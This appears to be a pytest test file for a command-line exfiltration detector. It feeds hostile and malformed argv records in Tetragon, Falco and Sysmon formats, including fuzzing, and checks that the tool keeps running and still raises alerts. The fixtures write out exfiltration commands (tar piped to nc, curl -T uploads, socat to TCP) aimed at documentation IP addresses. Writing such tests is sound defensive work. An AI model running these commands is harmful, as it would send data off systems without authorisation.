"""Class 3 of issue 11: one record chosen by the attacker must not end a run. A hostile argument
is parsed without an exception; a record that still trips the analysis is counted as "could not
be analysed" with its file and line and the run goes on; the real exfiltration beside it alerts;
deep JSON does not stop format sniffing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.adversarial.exec_records import T0, sysmon, write
from tests.builders import api_call, launch
from tidewaiter.cli.main import main
from tidewaiter.detection.catalog import load
from tidewaiter.detection.signals import Detector
from tidewaiter.events import Kind, Process

EXFIL = [
    ["/bin/tar", "-czf", "/tmp/a.tgz", "/srv/data"],
    ["/usr/bin/curl", "-sT", "/tmp/a.tgz", "https://203.0.113.7/upload"],
]
HOSTILE = [
    ["/usr/bin/curl", "-T", "x", "http://[oops"],
    ["/usr/bin/curl", "-T", "x", "http://]x[/"],
    ["/usr/bin/curl", "-T", "x", "http://[::1]:99999999/"],
    ["/bin/nc", "198.51.100.1", "²"],
    ["/bin/nc", "198.51.100.1", "9" * 5000],
    ["/usr/bin/socat", "FILE:/tmp/a.tgz", "TCP:198.51.100.1:²"],
    ["/usr/bin/socat", "-", "TCP:198.51.100.1:" + "9" * 5000],
    ["/usr/bin/socat", "-", "TCP6:[2001:db8::1:443"],
    ["/usr/bin/wget", "--post-file=x", "http://[::1"],
    ["/usr/bin/rsync", "x", "rsync://[::1/x"],
    ["/usr/bin/rsync", "x", "[::1:/y"],
    ["/usr/bin/ssh", "[::1", "cat > x"],
    ["/usr/bin/sftp", "[::1"],
    ["/bin/sh", "-c", "tar czf - /d | nc 198.51.100.1 ²"],
    ["/usr/bin/pwsh", "-c", "Invoke-WebRequest -Uri http://[oops -InFile x -Method Put"],
]


@pytest.mark.parametrize("fmt", ["tetragon", "falco"])
@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda argv: " ".join(argv)[:40])
def test_a_hostile_argument_neither_crashes_nor_hides_the_exfil_beside_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, hostile: list[str]
) -> None:
    path = write(tmp_path, fmt, [hostile, *EXFIL])

    code = main(["detect", "--json", "--fail-on-alert", str(path)])

    out, err = capsys.readouterr()
    assert code == 1, err  # 1 is the alert, not a crash
    alerts = [json.loads(line) for line in out.splitlines()]
    assert max(a["severity_id"] for a in alerts) >= 4
    assert "Traceback" not in err


def test_a_hostile_upload_in_sysmon_is_read_as_an_upload(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "sysmon.xml"
    path.write_bytes(
        sysmon(
            [
                ["C:\\Program Files\\7-Zip\\7z.exe", "a", "C:\\t\\a.7z", "C:\\data"],
                ["C:\\Windows\\System32\\curl.exe", "-T", "C:\\t\\a.7z", "http://[oops/"],
            ]
        )
    )

    code = main(["detect", "--json", "--fail-on-alert", str(path)])

    _out, err = capsys.readouterr()
    assert code == 1, err
    assert "Traceback" not in err


class _Bug(Exception):
    pass


@pytest.fixture
def tripping_detector(monkeypatch: pytest.MonkeyPatch) -> None:
    """A detector with a bug that one argument sets off: the stand-in for the next parser bug
    an attacker finds, which must cost that record only."""
    real = Detector.signals

    def signals(self: Detector, event: object) -> object:
        process = getattr(event, "process", None)
        if isinstance(process, Process) and "TRIP" in (process.cmd_line or ""):
            raise _Bug("tripped by TRIP")
        return real(self, event)  # type: ignore[arg-type]

    monkeypatch.setattr(Detector, "signals", signals)


@pytest.mark.usefixtures("tripping_detector")
@pytest.mark.parametrize("fmt", ["tetragon", "falco"])
def test_a_record_that_trips_the_analysis_is_counted_where_it_is_and_the_run_goes_on(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    path = write(tmp_path, fmt, [["/bin/echo", "TRIP"], *EXFIL])

    code = main(["detect", "--json", str(path)])

    out, err = capsys.readouterr()
    assert code == 0  # no --fail-on-alert, no --strict: a skipped record is not a failure
    assert len(out.splitlines()) == 1  # the exfil still alerts
    assert f"{path}: line 1: could not be analysed: _Bug (tripped by TRIP)" in err
    assert "1 could not be analysed: _Bug" in err
    assert "Traceback" not in err


@pytest.mark.usefixtures("tripping_detector")
def test_exit_codes_keep_their_meaning_when_a_record_cannot_be_analysed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    quiet = write(tmp_path, "tetragon", [["/bin/echo", "TRIP"], ["/bin/ls"]])

    assert main(["detect", "--fail-on-alert", str(quiet)]) == 0  # no alert: not 1
    assert main(["detect", "--strict", str(quiet)]) == 2  # strict: anything skipped is 2
    capsys.readouterr()


@pytest.mark.usefixtures("tripping_detector")
def test_baseline_learning_goes_on_past_a_record_it_cannot_analyse(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, "tetragon", [["/bin/echo", "TRIP"], ["/bin/ls", "/srv"]])

    code = main(["baseline", "learn", "--db", str(tmp_path / "tw.duckdb"), str(path)])

    err = capsys.readouterr().err
    assert code == 0
    assert "learned 1 workload baseline(s)" in err
    assert "could not be analysed" in err


def test_an_unauthenticated_pods_exec_with_a_hostile_url_is_analysed() -> None:
    event = api_call(
        "exec",
        kind=Kind.ORCHESTRATOR,
        user=None,
        command=("curl", "-T", "/tmp/a.tgz", "http://[oops"),
    )
    [upload] = Detector().signals(event)
    assert upload.destination is not None
    assert upload.destination.host == "oops"


@pytest.mark.parametrize(
    "prefix",
    [
        b'{"process_exec":',
        b'{"class_uid":1007,"time":1,"x":',
        b'{"Action":"x","y":',
        b'{"columns":',
    ],
)
def test_json_nested_deeper_than_the_decoder_allows_does_not_stop_sniffing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], prefix: bytes
) -> None:
    deep = prefix + b"[" * 20_000 + b"]" * 20_000 + b"}\n"  # within the 64 KiB sniffed
    path = tmp_path / "deep.jsonl"
    path.write_bytes(deep + write(tmp_path, "tetragon", EXFIL).read_bytes())

    code = main(["detect", "--json", "--fail-on-alert", str(path), "--format", "tetragon"])
    assert code == 1
    sniffed = main(["detect", "--json", str(path)])

    err = capsys.readouterr().err
    assert sniffed == 0  # recognised by its next line; the deep one is reported, not fatal
    assert "line 1" in err
    assert "Traceback" not in err


# --- fuzzing: every parser the catalog drives, fed arbitrary argv -------------------------

_TRICKY = st.sampled_from(
    ["[", "]", ":", "//", "@", "²", "٣", "-", "--", "=", "'", '"', "\\", "|", ";", "<", ">",
     "%", "#", "\n", "::1", "http://", "rsync://", "TCP:", "TCP6:", "s3://", "9" * 4400]
)  # fmt: skip
_WORD = st.lists(st.one_of(_TRICKY, st.text(max_size=8)), max_size=5).map("".join)
_CATALOG = load()
_BINARIES = sorted(_CATALOG.interesting)


@settings(max_examples=600, deadline=None)
@given(st.sampled_from(_BINARIES), st.lists(_WORD, max_size=8))
def test_no_argv_makes_a_signal_parser_raise(binary: str, args: list[str]) -> None:
    detector = Detector(catalog=_CATALOG)
    argv = (binary, *args)
    as_split = launch(" ".join(argv), path=f"/usr/bin/{binary}")
    detector.signals(as_split)  # the command line, tokenised by tidewaiter
    as_args = msgspec_replace_args(as_split, argv)
    detector.signals(as_args)  # argv as the producer split it
    detector.signals(api_call("exec", kind=Kind.ORCHESTRATOR, time=T0, command=argv))


def msgspec_replace_args(event: object, argv: tuple[str, ...]) -> object:
    import msgspec

    process = getattr(event, "process", None)
    assert isinstance(process, Process)
    return msgspec.structs.replace(
        event,  # type: ignore[type-var]
        process=msgspec.structs.replace(process, args=argv),
    )


def test_an_unauthenticated_pods_exec_record_is_read_and_analysed_by_detect(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fixtures: Path
) -> None:
    record = json.loads((fixtures / "k8s_audit" / "audit.jsonl").read_text().splitlines()[0])
    record["user"] = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
    record["requestURI"] = (
        "/api/v1/namespaces/payments/pods/db-0/exec?command=curl&command=-T"
        "&command=%2Ftmp%2Fa.tgz&command=http%3A%2F%2F%5Boops&container=db&stdout=true"
    )
    anonymous = dict(record, auditID="6e1d9f3b-4c8a-4d2f-8b7e-3a5c9f2d8b01")
    del anonymous["user"]
    path = tmp_path / "audit.jsonl"
    path.write_text(json.dumps(record) + "\n" + json.dumps(anonymous) + "\n")

    code = main(["detect", "--json", str(path)])

    err = capsys.readouterr().err
    assert code == 0
    assert "read 2 records" in err
    assert "0 skipped" in err
